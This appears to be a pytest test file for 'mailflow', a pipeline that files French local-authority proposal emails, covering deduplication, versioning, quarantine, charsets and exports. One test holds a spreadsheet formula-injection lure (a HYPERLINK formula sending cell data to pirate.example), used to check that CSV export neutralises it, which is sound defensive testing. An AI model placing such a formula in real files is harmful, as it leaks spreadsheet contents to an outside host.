"""The pipeline on local files: samples filed as expected, nothing twice, bad mail quarantined, loops avoided."""

from __future__ import annotations

import csv
import io
import json
import logging
import random
import re
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from jsonschema import Draft202012Validator
from sqlalchemy import func, select

from mailflow.campaign.export import proposal_record
from mailflow.db.models import Message, OutboxMail, Proposal, QuarantineEntry
from mailflow.mail.mailbox import IncomingMail, MailRef
from mailflow.mail.spool import SpooledMail, opened, read_mail
from mailflow.pipeline import run as pipeline
from mailflow.pipeline.quarantine import quarantine_release
from tests.factories import (
    SHARED,
    collectivity,
    form_docx,
    mail,
    make_app,
    proposal_body,
    proposal_mail,
    question_mail,
)
from tests.offer_factories import offer_mail, offer_values

SAMPLES = SHARED / "samples"


def samples() -> list[Path]:
    if not SAMPLES.is_dir():
        pytest.skip(f"{SAMPLES} not present (../shared is absent)")
    return sorted(SAMPLES.glob("*/message.eml"))


def norm(value):  # noqa: ANN001, ANN201
    if isinstance(value, str):
        return re.sub(r"\s+", " ", value.replace("’", "'")).strip()
    return value


def write_eml(folder: Path, name: str, message) -> Path:  # noqa: ANN001
    path = folder / f"{name}.eml"
    path.write_bytes(message.as_bytes())
    return path


def records(app) -> list[dict]:  # noqa: ANN001
    with app.sessions() as session:
        return [proposal_record(p) for p in session.scalars(select(Proposal).order_by(Proposal.id))]


def outbox(app) -> list[OutboxMail]:  # noqa: ANN001
    with app.sessions() as session:
        return list(session.scalars(select(OutboxMail).order_by(OutboxMail.id)))


def test_samples_are_filed_exactly_as_expected(tmp_path: Path) -> None:
    """Samples 01→08 filed in order give their expected fields, statuses, references and versions."""
    files = samples()
    app = make_app(tmp_path)
    verdicts = dict(pipeline.ingest_files(app, files))
    by_id = {r["source"]["message_id"]: r for r in records(app) if r["version"] == 1 or r["supersedes"]}
    versions = {(r["reference"], r["version"]) for r in records(app)}
    for path in files:
        expected = json.loads((path.parent / "expected.json").read_text(encoding="utf-8"))
        if expected["expect"] != "filed":
            assert verdicts[path] in ("ignored", "question"), path.parent.name
            assert expected["message_id"] not in by_id
            continue
        got = by_id[expected["message_id"]]
        for section in ("collectivity", "dgs", "tutor", "mission", "logistics"):
            for key, value in expected[section].items():
                assert norm(got[section][key]) == norm(value), f"{path.parent.name} {section}.{key}"
        superseded_later = (got["reference"], got["version"] + 1) in versions
        assert got["status"] == ("superseded" if superseded_later else expected["expected_status"]), path.parent.name
        assert got["missing"] == expected["expected_missing"], path.parent.name
        assert sorted(p.split(":")[0] for p in got["problems"]) == sorted(
            p.split(":")[0] for p in expected["expected_problems"]
        ), path.parent.name
        assert got["sender"] == expected["sender"]
        assert got["source"]["kind"] == expected["source_kind"]
        assert got["source"]["filename"] == expected["source_filename"]
        if "expected_reference" in expected:
            assert got["reference"] == expected["expected_reference"]
        if "expected_version" in expected:
            assert got["version"] == expected["expected_version"]
            assert got["supersedes"] == expected["supersedes"]
    drome_v1 = next(r for r in records(app) if r["reference"] == "PC-2025-0003" and r["version"] == 1)
    assert drome_v1["status"] == "superseded"


def test_export_scores_perfectly_with_the_shared_scorer(tmp_path: Path) -> None:
    """`mailflow proposals export --format json` scored by ../shared/tools/score_export.py: all right."""
    files = samples()
    app = make_app(tmp_path)
    pipeline.ingest_files(app, files)
    export = subprocess.run(
        [sys.executable, "-m", "mailflow", "--config", str(tmp_path / "settings.toml"),
         "proposals", "export", "--format", "json"],
        capture_output=True, text=True, timeout=60, check=True,
    ).stdout
    (tmp_path / "export.json").write_text(export, encoding="utf-8")
    score = subprocess.run(
        [sys.executable, str(SHARED / "tools" / "score_export.py"), str(tmp_path / "export.json"), str(SAMPLES)],
        capture_output=True, text=True, timeout=60, check=True,
    ).stdout
    assert "FIELD_ACCURACY=1.00 FILED_RECALL=1.00 FALSE_FILINGS=0" in score, score


def test_the_json_export_follows_the_shared_schema_and_keeps_offers_apart(tmp_path: Path) -> None:
    """Every record of `proposals export --format json` validates against ../shared's proposal.schema.json,
    with mailflow's two documented extensions only: the status "to_check" (values read without
    confidence) and a null campaign (received outside any campaign). Stage offers, which the schema does
    not describe, are exported on their own with `--form offre_stage`."""
    schema_file = SHARED / "schemas" / "proposal.schema.json"
    if not schema_file.is_file():
        pytest.skip(f"{schema_file} not present (../shared is absent)")
    schema = json.loads(schema_file.read_text(encoding="utf-8"))
    schema["properties"]["status"]["enum"].append("to_check")
    schema["properties"]["campaign"]["type"] = ["string", "null"]
    app = make_app(tmp_path)
    outside = write_eml(tmp_path, "hc", proposal_mail(collectivity(4), date=datetime(2026, 11, 2, 10, 0, tzinfo=UTC)))
    offer = write_eml(tmp_path, "offer", offer_mail(offer_values(1), "un stage d'observation à un élève "
                                                                     "administrateur territorial"))
    pipeline.ingest_files(app, [*samples(), outside, offer])

    def export(*options: str) -> list[dict]:
        return json.loads(subprocess.run(
            [sys.executable, "-m", "mailflow", "--config", str(tmp_path / "settings.toml"),
             "proposals", "export", "--format", "json", *options],
            capture_output=True, text=True, timeout=60, check=True,
        ).stdout)

    proposals, offers = export(), export("--form", "offre_stage")
    validator = Draft202012Validator(schema)
    for record in proposals:
        assert not list(validator.iter_errors(record)), (record["reference"], list(validator.iter_errors(record)))
    assert {r["status"] for r in proposals} >= {"complete", "incomplete", "superseded"}
    assert any(r["campaign"] is None for r in proposals)
    assert [(r["form"], r["reference"]) for r in offers] == [("offre_stage", "ST-2022-0001")]
    unknown = subprocess.run([sys.executable, "-m", "mailflow", "--config", str(tmp_path / "settings.toml"),
                              "proposals", "export", "--form", "stage"], capture_output=True, text=True, timeout=60)
    assert unknown.returncode == 1 and "offre_stage, projet_collectif" in unknown.stderr, unknown.stderr


def test_the_csv_export_never_lets_a_form_value_run_as_a_formula(tmp_path: Path) -> None:
    """A collectivité name written as a spreadsheet formula is exported as text (after an apostrophe)."""
    app = make_app(tmp_path)
    lure = '=HYPERLINK("http://pirate.example/?x="&A1;"Cliquez")'
    pipeline.ingest_files(app, [write_eml(tmp_path, "f", proposal_mail(collectivity(14) | {"name": lure}))])
    result = subprocess.run([sys.executable, "-m", "mailflow", "--config", str(tmp_path / "settings.toml"),
                             "proposals", "export", "--format", "csv"], capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    (row,) = csv.DictReader(io.StringIO(result.stdout))
    assert row["collectivity.name"] == "'" + lure
    assert row["collectivity.siret"] == collectivity(14)["siret"]


def test_same_mail_twice_is_filed_and_answered_once(tmp_path: Path) -> None:
    """The same mail (same Message-ID and content) ingested twice: one proposal, one acknowledgement."""
    app = make_app(tmp_path)
    path = write_eml(tmp_path, "p", proposal_mail(collectivity(1)))
    pipeline.ingest_files(app, [path, path])
    assert len(records(app)) == 1
    assert len(outbox(app)) == 1


def test_a_new_form_from_the_same_collectivity_becomes_version_two(tmp_path: Path) -> None:
    """A second form with the same SIRET supersedes the first and keeps its reference."""
    app = make_app(tmp_path)
    values = collectivity(2)
    first = write_eml(tmp_path, "v1", proposal_mail({**values, "hr_email": ""}))
    second = write_eml(tmp_path, "v2", proposal_mail(values, date=datetime(2025, 6, 12, 9, 0, tzinfo=UTC)))
    pipeline.ingest_files(app, [first, second])
    v1, v2 = records(app)
    assert (v1["reference"], v1["version"], v1["status"]) == ("PC-2025-0001", 1, "superseded")
    assert (v2["reference"], v2["version"], v2["status"], v2["supersedes"]) == ("PC-2025-0001", 2, "complete",
                                                                               "PC-2025-0001")
    assert [m.kind for m in outbox(app)] == ["collectivite/accuse-reception-incomplet", "collectivite/nouvelle-version"]


def test_a_big_mail_file_is_read_in_pieces_and_filed_with_its_date(tmp_path: Path) -> None:
    """`mailflow ingest` of a 5 MB proposal mail (a scan annexed): read from its file in pieces, filed under
    the date it bears, the mail and its scan archived byte for byte."""
    app = make_app(tmp_path)
    message = proposal_mail(collectivity(6), date=datetime(2025, 6, 12, 9, 0, tzinfo=UTC))
    scan = random.Random(6).randbytes(5_000_000)
    message.add_attachment(scan, maintype="image", subtype="jpeg", filename="plan.jpg")
    path = write_eml(tmp_path, "big", message)
    with opened(read_mail(path)) as raw:
        assert isinstance(raw, SpooledMail)
    assert dict(pipeline.ingest_files(app, [path])) == {path: "proposal"}
    (record,) = records(app)
    assert record["reference"] == "PC-2025-0001" and record["status"] == "complete"
    with app.sessions() as session:
        (row,) = session.scalars(select(Message))
        assert row.received_at.replace(tzinfo=UTC) == datetime(2025, 6, 12, 9, 0, tzinfo=UTC)
        assert app.archive.load(row.content_hash) == path.read_bytes()
        assert [app.archive.load(a.content_hash) for a in row.attachments if a.filename == "plan.jpg"] == [scan]


def test_proposal_after_the_deadline_is_late(tmp_path: Path) -> None:
    """A proposal received after 20 June 2025 is filed as late and told so."""
    app = make_app(tmp_path)
    path = write_eml(tmp_path, "late", proposal_mail(collectivity(3), date=datetime(2025, 7, 2, 10, 0, tzinfo=UTC)))
    pipeline.ingest_files(app, [path])
    (record,) = records(app)
    assert record["status"] == "late" and record["campaign"] == "projet-collectif-2025-2026"
    assert [m.kind for m in outbox(app)] == ["collectivite/hors-delai"]


def test_proposal_outside_any_campaign_is_filed_without_one(tmp_path: Path) -> None:
    """A proposal received when no campaign accepts proposals is filed without a campaign, not rejected."""
    app = make_app(tmp_path)
    path = write_eml(tmp_path, "hc", proposal_mail(collectivity(4), date=datetime(2026, 11, 2, 10, 0, tzinfo=UTC)))
    pipeline.ingest_files(app, [path])
    (record,) = records(app)
    assert record["campaign"] is None
    assert record["reference"] == "HC-2026-0001"


def test_question_gets_a_short_acknowledgement_and_waits_for_staff(tmp_path: Path) -> None:
    """A mail without a form is a question: acknowledged, left for staff."""
    app = make_app(tmp_path)
    (path, verdict), = pipeline.ingest_files(app, [write_eml(tmp_path, "q", question_mail())])
    assert verdict == "question"
    assert [m.kind for m in outbox(app)] == ["collectivite/question-recue"]


def test_auto_reply_gets_nothing(tmp_path: Path) -> None:
    """An auto-reply is recorded as ignored and never answered."""
    app = make_app(tmp_path)
    auto = question_mail(headers={"Auto-Submitted": "auto-replied"})
    assert pipeline.ingest_files(app, [write_eml(tmp_path, "a", auto)])[0][1] == "ignored"
    assert outbox(app) == []


def test_answers_to_one_sender_are_limited_per_day(tmp_path: Path) -> None:
    """A sender who mails ten times in a day gets at most five automatic answers."""
    app = make_app(tmp_path)
    paths = [write_eml(tmp_path, f"q{n}", question_mail(sender="bavard@commune-test.example.fr")) for n in range(10)]
    pipeline.ingest_files(app, paths)
    assert len(outbox(app)) == 5


def test_failed_dmarc_gets_no_automatic_answer_but_is_filed(tmp_path: Path) -> None:
    """A proposal whose sender failed DMARC is filed and shown to staff, but not answered."""
    app = make_app(tmp_path)
    message = proposal_mail(collectivity(5), headers={
        "Authentication-Results": "mx1.cnfpt.fr; spf=pass smtp.mailfrom=x; dmarc=fail (p=reject) header.from=x"})
    pipeline.ingest_files(app, [write_eml(tmp_path, "d", message)])
    assert len(records(app)) == 1
    assert outbox(app) == []
    with app.sessions() as session:
        steps = [s.detail for m in session.scalars(select(Message)) for s in m.steps]
    assert any("DMARC=fail" in (d or "") for d in steps)


def test_corrupt_attachment_is_quarantined_with_a_french_reason(tmp_path: Path) -> None:
    """A .docx that is not a zip is quarantined, the sender told which document could not be read."""
    app = make_app(tmp_path)
    message = mail(sender="rh@ville-test.example.fr", subject="Proposition", body="Ci-joint notre fiche.\n")
    message.add_attachment(b"this is not a word file", maintype="application",
                           subtype="vnd.openxmlformats-officedocument.wordprocessingml.document",
                           filename="fiche.docx")
    assert pipeline.ingest_files(app, [write_eml(tmp_path, "c", message)])[0][1] == "quarantined"
    with app.sessions() as session:
        (entry,) = session.scalars(select(QuarantineEntry))
        assert "fiche.docx" in entry.reason
    assert [m.kind for m in outbox(app)] == ["collectivite/document-illisible"]


def test_an_internal_error_quarantines_one_mail_and_the_next_goes_on(tmp_path: Path, monkeypatch) -> None:  # noqa: ANN001
    """A stage that crashes on one mail quarantines that mail; the following mail is filed normally."""
    app = make_app(tmp_path)
    real = pipeline.read_proposals
    calls = []

    def flaky(message, *args, **kwargs):  # noqa: ANN001, ANN202
        calls.append(1)
        if len(calls) == 1:
            raise RuntimeError("boom")
        return real(message, *args, **kwargs)

    monkeypatch.setattr(pipeline, "read_proposals", flaky)
    paths = [write_eml(tmp_path, "a", proposal_mail(collectivity(6))),
             write_eml(tmp_path, "b", proposal_mail(collectivity(7)))]
    assert [v for _, v in pipeline.ingest_files(app, paths)] == ["quarantined", "proposal"]
    with app.sessions() as session:
        (entry,) = session.scalars(select(QuarantineEntry))
        assert "erreur interne" in entry.reason
        entry_id = entry.id
    monkeypatch.setattr(pipeline, "read_proposals", real)
    released = quarantine_release(app, entry_id)
    assert released.verdict == "proposal"
    assert len(records(app)) == 2


def test_two_missions_in_one_mail_are_both_filed_and_flagged(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    """Two forms in one mail: both filed (neither supersedes the other) and flagged for staff; the log
    line of the mail names both references."""
    caplog.set_level(logging.INFO)
    app = make_app(tmp_path)
    values = collectivity(8)
    message = mail(sender=values["sender"], subject="Deux propositions", body="Voici nos deux missions.\n")
    for n, title in enumerate(("Première mission de test", "Seconde mission de test")):
        message.add_attachment(form_docx({**values, "title": title}), maintype="application",
                               subtype="vnd.openxmlformats-officedocument.wordprocessingml.document",
                               filename=f"mission-{n + 1}.docx")
    pipeline.ingest_files(app, [write_eml(tmp_path, "two", message)])
    filed = records(app)
    assert len(filed) == 2
    assert {r["mission"]["title"] for r in filed} == {"Première mission de test", "Seconde mission de test"}
    assert {r["status"] for r in filed} == {"complete"}
    assert all(r["flags"] for r in filed)
    logged = [r for r in caplog.records if getattr(r, "outcome", None) == "proposal"]
    assert [r.reference for r in logged] == [", ".join(sorted(r["reference"] for r in filed))]


def test_mail_journey_is_recorded_step_by_step(tmp_path: Path) -> None:
    """`mailflow mail show` lists the steps a mail went through."""
    app = make_app(tmp_path)
    message = proposal_mail(collectivity(9))
    pipeline.ingest_files(app, [write_eml(tmp_path, "j", message)])
    result = subprocess.run(
        [sys.executable, "-m", "mailflow", "--config", str(tmp_path / "settings.toml"), "mail", "show",
         message["Message-ID"]], capture_output=True, text=True, timeout=60,
    )
    assert result.returncode == 0, result.stderr
    for step in ("recorded", "classified", "extracted", "filed", "answered", "proposal"):
        assert re.search(rf"\s{step}\s", result.stdout), step
    with app.sessions() as session:
        assert session.scalar(select(func.count()).select_from(Message)) == 1


def test_a_mail_the_server_gave_no_arrival_time_is_dated_by_the_service_clock(tmp_path: Path) -> None:
    """Some IMAP servers give no INTERNALDATE: the mail is dated by mailflow's one clock, not the machine's."""
    app = make_app(tmp_path)
    raw = proposal_mail(collectivity(10)).as_bytes()
    incoming = IncomingMail(ref=MailRef(key="1", uid=1, size=len(raw)), raw=raw, received_at=None)
    pk, verdict = pipeline.ingest_one(app, incoming, "INBOX", 7)
    assert verdict == "proposal"
    with app.sessions() as session:
        assert session.get_one(Message, pk).received_at.replace(tzinfo=UTC) == app.clock.now()
        assert session.scalars(select(Proposal.received_at)).one().replace(tzinfo=UTC) == app.clock.now()


def test_a_stranger_naming_a_reference_in_the_subject_never_changes_that_proposal(tmp_path: Path) -> None:
    """References follow each other: a mail from another domain with [PC-2025-0001] in its subject goes to
    staff as a question and files nothing; a colleague of the collectivité (same domain) completes it."""
    app = make_app(tmp_path)
    values = collectivity(11) | {"hr_email": ""}
    later = datetime(2025, 6, 11, 9, 0, tzinfo=UTC)
    files = [write_eml(tmp_path, "first", proposal_mail(values))]
    for name, sender in (("stranger", "convention@pirate.example"), ("colleague", "dgs@ville-test-11.example.fr")):
        files.append(write_eml(tmp_path, name, mail(
            sender=sender, subject="RE: [PC-2025-0001] Accusé de réception", date=later,
            body=f"Bonjour,\n\nLe courriel du contact RH est {sender}.\n\nCordialement\n")))
    verdicts = [verdict for _, verdict in pipeline.ingest_files(app, files)]
    assert verdicts == ["proposal", "question", "proposal"]
    with app.sessions() as session:
        versions = [(p.version, p.fields["collectivity"]["hr_email"]) for p in
                    session.scalars(select(Proposal).order_by(Proposal.version))]
    assert versions == [(1, None), (2, "dgs@ville-test-11.example.fr")]


def test_forwarded_proposal_is_filed_for_the_original_sender(tmp_path: Path) -> None:
    """A colleague forwards a collectivité's mail as an attachment: filed, and answered to the collectivité."""
    app = make_app(tmp_path)
    values = collectivity(10)
    forwarded = mail(sender="Agent INET <agent.inet@cnfpt.fr>", subject="TR: Proposition de projet collectif",
                     body="Bonjour,\nje vous transfère cette proposition reçue sur ma boîte.\n")
    forwarded.add_attachment(proposal_mail(values))
    assert pipeline.ingest_files(app, [write_eml(tmp_path, "fwd", forwarded)])[0][1] == "proposal"
    (record,) = records(app)
    assert record["sender"] == values["sender"]
    assert record["collectivity"]["name"] == values["name"]
    assert [(m.kind, m.recipient) for m in outbox(app)] == [("collectivite/accuse-reception", values["sender"])]


def test_inline_forward_is_filed_for_the_original_sender(tmp_path: Path) -> None:
    """A `TR:` with the collectivité's mail quoted inline (Outlook's French header block): filed for its author."""
    app = make_app(tmp_path)
    values = collectivity(11)
    body = (
        "Pour suite à donner.\n\n-----Message d'origine-----\n"
        f"De : Claire Martin <{values['sender']}>\nEnvoyé : lundi 2 juin 2025 10:12\n"
        "À : agent.inet@cnfpt.fr\nObjet : Proposition de projet collectif\n\n" + proposal_body(values)
    )
    forwarded = mail(sender="agent.inet@cnfpt.fr", subject="TR: Proposition de projet collectif", body=body)
    assert pipeline.ingest_files(app, [write_eml(tmp_path, "tr", forwarded)])[0][1] == "proposal"
    (record,) = records(app)
    assert record["sender"] == values["sender"]
    assert record["collectivity"]["siret"] == values["siret"]


@pytest.mark.parametrize(("charset", "cte"), [("windows-1252", "quoted-printable"), ("iso-8859-1", "8bit"),
                                             ("utf-8", "base64")])
def test_body_forms_in_the_charsets_french_mail_uses(tmp_path: Path, charset: str, cte: str) -> None:
    """A form typed in a windows-1252, iso-8859-1 or utf-8 body is read with its accents intact."""
    app = make_app(tmp_path)
    values = collectivity(12)
    values["context"] = "Élaboration d’un schéma « cœur de ville » : réunions à Besançon, coût 4 000 €."
    if charset == "iso-8859-1":
        values["context"] = values["context"].replace("’", "'").replace("œ", "oe").replace("€", "euros")
    message = mail(sender=values["sender"], subject="Proposition", body="x")
    message.set_content(proposal_body(values), charset=charset, cte=cte)
    assert pipeline.ingest_files(app, [write_eml(tmp_path, charset, message)])[0][1] == "proposal"
    (record,) = records(app)
    assert record["mission"]["context"] == values["context"]
    assert record["collectivity"]["address"] == values["address"]


@pytest.mark.parametrize("declared", ["utf-8", "x-inconnu", None])
def test_a_body_in_another_charset_than_declared_is_read_as_windows_1252(tmp_path: Path, declared: str | None) -> None:
    """Windows-1252 bytes labelled UTF-8, with an unknown charset or with none (old mail clients): read with
    their accents, so that « Directrice générale adjointe » is a DGA and the proposal is complete."""
    app = make_app(tmp_path)
    values = collectivity(13)
    values["context"] = "Élaboration d’un schéma « cœur de ville » à Besançon, coût 4 000 €."
    raw = mail(sender=values["sender"], subject="Proposition", body="x").as_bytes().split(b"\n\n", 1)[0]
    raw = b"\n".join(line for line in raw.split(b"\n") if not line.lower().startswith((b"content-", b" charset")))
    content_type = b"Content-Type: text/plain" + (f'; charset="{declared}"'.encode() if declared else b"")
    body = proposal_body(values).encode("cp1252")
    path = tmp_path / "cp1252.eml"
    path.write_bytes(raw + b"\n" + content_type + b"\nContent-Transfer-Encoding: 8bit\n\n" + body)
    assert pipeline.ingest_files(app, [path])[0][1] == "proposal"
    (record,) = records(app)
    assert (record["status"], record["problems"]) == ("complete", [])
    assert record["mission"]["context"] == values["context"]
    assert record["tutor"]["role"] == values["tutor_role"]


def test_html_only_body_form_is_read(tmp_path: Path) -> None:
    """A form pasted in an HTML-only mail (no text part) is read from the HTML."""
    app = make_app(tmp_path)
    values = collectivity(13)
    paragraphs = "".join(f"<p>{line}</p>" if line else "<br>" for line in proposal_body(values).split("\n"))
    message = mail(sender=values["sender"], subject="Proposition", body="x")
    message.set_content(f"<html><body>{paragraphs}</body></html>", subtype="html")
    assert pipeline.ingest_files(app, [write_eml(tmp_path, "html", message)])[0][1] == "proposal"
    (record,) = records(app)
    assert record["collectivity"]["name"] == values["name"]
    assert record["tutor"]["email"] == values["tutor_email"]
    assert record["status"] == "complete"


_HEADERISH = st.sampled_from([
    b"", b"From: =?utf-8?b?//8=?= <x@example.fr>\r\n", b"Subject: =?bogus?q?=ZZ?=\r\n", b"Message-ID: <>\r\n",
    b"Content-Type: multipart/mixed; boundary=\"\"\r\n", b"Content-Transfer-Encoding: base64\r\n",
    b"Date: not a date\r\n", b"To: \x00\xff\r\n", b"Content-Type: message/rfc822\r\n", b"Auto-Submitted: no\r\n",
    b"Subject: caf\xe9 \x00 \xff\r\n", b"From: \xe9\x00 <a\xff@b.example.fr>\r\n", b"Message-ID: <\xff\x00@x>\r\n",
    b"Auto-Submitted: auto\x00\xff\r\n", b"Content-Disposition: attachment; filename=\"a\x00\xff.docx\"\r\n",
])


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                 HealthCheck.too_slow])
@pytest.mark.slow
@given(headers=st.lists(_HEADERISH, max_size=6), body=st.binary(max_size=2000))
def test_no_bytes_stop_the_pipeline(tmp_path: Path, headers: list[bytes], body: bytes) -> None:
    """Whatever bytes arrive, the pipeline records the mail and gives a verdict; it never raises."""
    app = make_app(tmp_path / "hyp")
    path = tmp_path / "mail.eml"
    path.write_bytes(b"".join(headers) + b"\r\n" + body)
    (_, verdict), = pipeline.ingest_files(app, [path])
    assert verdict in {"proposal", "question", "ignored", "quarantined", "reply", "duplicate"}
    with app.sessions() as session:
        reasons = list(session.scalars(select(QuarantineEntry.reason)))
    assert not any("erreur interne" in reason for reason in reasons), reasons
